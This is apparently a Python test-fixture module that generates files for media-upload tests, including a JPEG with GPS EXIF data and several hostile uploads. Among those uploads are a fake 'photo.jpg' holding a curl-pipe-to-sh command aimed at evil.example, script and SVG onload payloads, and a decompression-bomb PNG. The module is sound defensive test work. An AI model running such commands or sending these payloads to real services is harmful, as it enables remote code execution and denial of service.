"""Files for the media tests: a phone photo with GPS in its EXIF, and hostile uploads."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image

GPS_IFD = 0x8825


def photo_with_gps(size: tuple[int, int] = (800, 600), color: str = "#3a7") -> bytes:
    """A JPEG as a phone takes it: camera make and a GPS position in the EXIF block."""
    img = Image.new("RGB", size, color)
    exif = Image.Exif()
    exif[0x010F] = "LoaXaPhone"  # Make
    exif[0x0112] = 1  # Orientation
    exif[GPS_IFD] = {1: "N", 2: (10.0, 57.0, 26.0), 3: "E", 4: (106.0, 50.0, 33.0)}
    out = io.BytesIO()
    img.save(out, "JPEG", exif=exif.tobytes(), quality=90)
    return out.getvalue()


def png_with_alpha() -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", (300, 200), (255, 0, 0, 128)).save(out, "PNG")
    return out.getvalue()


def script_named_jpg() -> bytes:
    """What a "photo.jpg" can really be."""
    return b"#!/bin/sh\ncurl http://evil.example/x | sh\n" + b"<script>alert(1)</script>\n"


def svg_image() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9"/></svg>'


def decompression_bomb_png(side: int = 100_000) -> bytes:
    """A valid PNG header declaring side x side pixels (10 gigapixels) with a few KB of zeros:
    decoding it would take gigabytes of memory."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    rows = zlib.compress(b"\x00" * (1 + side // 8) * 64, 9)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )


def huge_upload(megabytes: int = 50) -> bytes:
    """A "50 MB image": a JPEG start, then padding."""
    return photo_with_gps((64, 64)) + b"\x00" * (megabytes * 1024 * 1024)


def pdf() -> bytes:
    return b"%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n"
